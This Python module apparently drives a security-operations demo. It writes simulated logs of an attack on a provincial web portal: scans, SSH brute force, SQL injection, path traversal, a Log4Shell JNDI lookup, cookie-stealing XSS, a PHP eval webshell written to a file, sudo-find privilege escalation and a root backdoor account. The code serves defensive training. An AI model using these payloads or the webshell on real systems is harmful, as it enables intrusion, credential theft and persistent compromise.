"""The attack that the demo plays, scene by scene, as a province's portal would log it."""

import random
import time
from collections.abc import Callable
from datetime import datetime

from msgspec import Struct

from soc_agent.cli.demo import traffic
from soc_agent.cli.demo.estate import ATTACKER, CITIZENS, HOSTS, Estate

WEB = HOSTS[0].name
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"
PAGES = (
    "/",
    "/tin-tuc",
    "/dich-vu-cong",
    "/van-ban",
    "/lien-he",
    "/css/site.css",
    "/images/quoc-huy.png",
    "/thong-bao?trang=2",
)


class Scene(Struct, frozen=True):
    """One scene. ``cli.demo.scene.<name>`` in the catalogues tells what happens."""

    name: str
    at_s: float
    """When it is played, from the beginning, at speed 1."""
    play: Callable[["Stage"], None]


class Stage:
    """Where scenes are played: the files of the estate, written as its hosts would."""

    def __init__(self, estate: Estate, seed: int = 7) -> None:
        self.estate = estate
        self.rng = random.Random(seed)  # noqa: S311 - a play, no secret
        self.capture = traffic.Capture(estate.captures / "edge.pcap")

    def syslog(self, host: str, program: str, message: str, log: str = "auth.log") -> None:
        """Write one line as rsyslog does (RFC 3164)."""
        stamp = datetime.now().astimezone().strftime("%b %e %H:%M:%S")
        self._append(host, log, f"{stamp} {host} {program}: {message}")

    def access(self, client: str, request: str, status: int, agent: str = BROWSER, size: int = 5120) -> None:
        """Write one line of the portal's access log (combined format)."""
        stamp = datetime.now().astimezone().strftime("%d/%b/%Y:%H:%M:%S %z")
        self._append(WEB, "access.log", f'{client} - - [{stamp}] "{request}" {status} {size} "-" "{agent}"')

    def _append(self, host: str, log: str, line: str) -> None:
        with self.estate.log_path(host, log).open("a", encoding="utf-8") as target:
            target.write(line + "\n")


def ordinary(stage: Stage) -> None:
    """Play a moment of an ordinary day."""
    rng = stage.rng
    for _ in range(rng.randrange(1, 4)):
        stage.access(rng.choice(CITIZENS), f"GET {rng.choice(PAGES)} HTTP/1.1", rng.choice((200, 200, 200, 304)))
    if rng.random() < 0.3:
        host = rng.choice(HOSTS[:4]).name
        stage.syslog(host, f"CRON[{rng.randrange(900, 60000)}]", "(root) CMD (run-parts --report /etc/cron.hourly)")
    if rng.random() < 0.3:
        stage.capture.write(traffic.citizens(rng))


def scan(stage: Stage) -> None:
    """Look for open doors: ports, then pages."""
    stage.capture.write(traffic.port_scan(stage.rng))
    for page in ("/.env", "/.git/config", "/wp-config.php.bak", "/backup.zip", "/phpmyadmin/", "/server-status"):
        stage.access(
            ATTACKER, f"GET {page} HTTP/1.1", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", 162
        )


def brute_force(stage: Stage) -> None:
    """Guess passwords over SSH."""
    users = ("admin", "root", "quantri", "test", "postgres", "oracle", "ubuntu", "tomcat")
    for n in range(24):
        user, port, pid = users[n % len(users)], stage.rng.randrange(30000, 60000), 4100 + n
        if user not in ("root", "quantri"):
            stage.syslog(WEB, f"sshd[{pid}]", f"Invalid user {user} from {ATTACKER} port {port}")
            stage.syslog(
                WEB, f"sshd[{pid}]", f"Failed password for invalid user {user} from {ATTACKER} port {port} ssh2"
            )
        else:
            stage.syslog(WEB, f"sshd[{pid}]", f"Failed password for {user} from {ATTACKER} port {port} ssh2")


def web_exploit(stage: Stage) -> None:
    """Try the portal's weaknesses, until an upload goes through."""
    for request, status in (
        ("GET /thong-bao?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20 HTTP/1.1", 500),
        ("GET /tai-ve?file=../../../../../../etc/passwd HTTP/1.1", 200),
        ("GET /tim-kiem?q=${jndi:ldap://203.0.113.200:1389/a} HTTP/1.1", 400),
        ("GET /tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", 200),
        ("POST /api/upload.php HTTP/1.1", 200),
    ):
        stage.access(ATTACKER, request, status, "python-requests/2.32.3")


def webshell(stage: Stage) -> None:
    """Drop a webshell among the uploads, and use it."""
    shell = stage.estate.portal_root / "uploads" / "anh-bia.php"
    # never run: it lies in the demo's folder, and no web server looks there
    shell.write_text("<?php @eval(base64_decode($_POST['cmd'])); ?>\n", "utf-8")
    for command in ("id", "uname+-a", "cat+/etc/passwd"):
        stage.access(ATTACKER, f"GET /uploads/anh-bia.php?cmd={command} HTTP/1.1", 200, "python-requests/2.32.3", 312)
    stage.access(ATTACKER, "POST /uploads/anh-bia.php HTTP/1.1", 200, "python-requests/2.32.3", 420)


def privilege_escalation(stage: Stage) -> None:
    """Become root, and stay."""
    sudo = "www-data : TTY=unknown ; PWD=/var/www/uploads ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ; -quit"
    stage.syslog(WEB, "sudo", sudo)
    stage.syslog(WEB, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)")
    account = "name=hotro, UID=0, GID=0, home=/home/hotro, shell=/bin/bash, from=/dev/pts/1"
    stage.syslog(WEB, "useradd[5120]", f"new user: {account}")
    stage.syslog(WEB, "usermod[5124]", "add 'hotro' to group 'sudo'")
    stage.syslog(WEB, "sshd[5130]", f"Accepted password for root from {ATTACKER} port 51022 ssh2")


def beacon(stage: Stage) -> None:
    """Call home, and mine."""
    stage.capture.write(traffic.beacon(stage.rng, 14), gap_s=0.03)


SCENES = (
    Scene("scan", 4, scan),
    Scene("brute_force", 12, brute_force),
    Scene("web_exploit", 20, web_exploit),
    Scene("webshell", 28, webshell),
    Scene("privilege_escalation", 36, privilege_escalation),
    Scene("beacon", 44, beacon),
)
END_S = 55.0
"""When the story is told; ordinary days go on."""


def play(stage: Stage, speed: float, stopped: Callable[[float], bool], tell: Callable[[str], None]) -> None:
    """Play the whole story. ``stopped(s)`` waits up to ``s`` seconds and says whether to end."""
    begin = time.monotonic()
    waiting = list(SCENES)
    while (clock := (time.monotonic() - begin) * speed) < END_S or waiting:
        ordinary(stage)
        while waiting and waiting[0].at_s <= clock:
            scene = waiting.pop(0)
            tell(scene.name)
            scene.play(stage)
        if stopped(0.5 / speed):
            return
